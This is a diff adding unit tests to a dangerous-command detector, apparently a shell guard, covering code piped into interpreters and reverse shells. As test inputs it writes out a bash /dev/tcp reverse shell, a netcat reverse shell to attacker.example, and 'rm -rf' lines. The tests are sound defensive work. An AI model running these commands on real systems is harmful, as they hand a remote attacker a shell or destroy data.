@@ -97,6 +97,18 @@ test("writes to sensitive places are caught by every writing tool", () => {
   }
 });
 
+test("code piped into an interpreter's stdin is dangerous, data piped into a script is not", () => {
+  assert.equal(detectDangerousCommand("cat <<EOF | bash\necho hi\nEOF").key, "pipe_into_interpreter");
+  assert.equal(detectDangerousCommand("echo 'print(1)' | python3 -").dangerous, true);
+  assert.equal(detectDangerousCommand("cat data.csv | python3 analyse.py").dangerous, false);
+  assert.equal(detectDangerousCommand("echo hi | tee out.log | wc -l").dangerous, false);
+});
+
+test("reverse shells are dangerous", () => {
+  assert.equal(detectDangerousCommand("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").dangerous, true);
+  assert.equal(detectDangerousCommand("nc -e /bin/sh attacker.example 4444").key, "reverse_shell");
+});
+
 test("heredoc bodies are data, not commands", () => {
   assert.equal(detectDangerousCommand("cat > notes.txt << 'EOF'\nrm -rf everything\nEOF").dangerous, false);
   assert.equal(detectDangerousCommand("cat > notes.txt << 'EOF'\nhello\nEOF\nrm -rf build").dangerous, true);
